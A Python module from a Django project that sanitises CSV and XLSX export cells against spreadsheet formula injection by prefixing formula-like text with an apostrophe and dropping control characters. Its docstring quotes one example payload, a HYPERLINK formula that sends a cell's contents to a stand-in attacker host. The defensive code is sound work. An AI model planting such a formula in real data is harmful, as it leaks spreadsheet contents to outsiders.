"""Cells of every CSV and XLSX export go through `safe_cell` / `safe_row`.

A text that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which
spreadsheets skip before reading the rest) is run as a formula when the file is opened:
a partner or SLSP name such as `=HYPERLINK("https://evil.example/?"&A1;"clic")` would
leak the sheet or run a command. Such texts are prefixed with an apostrophe, which
spreadsheets read as "this is text". Numbers are left as they are: a negative number
stays a number, never a text. Control characters (other than tab, line feed and
carriage return) are dropped: XLSX cannot hold them, and a name carrying one would
otherwise make the whole export fail.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value with formula-looking texts neutralised; anything else unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [safe_row(row) for row in rows]
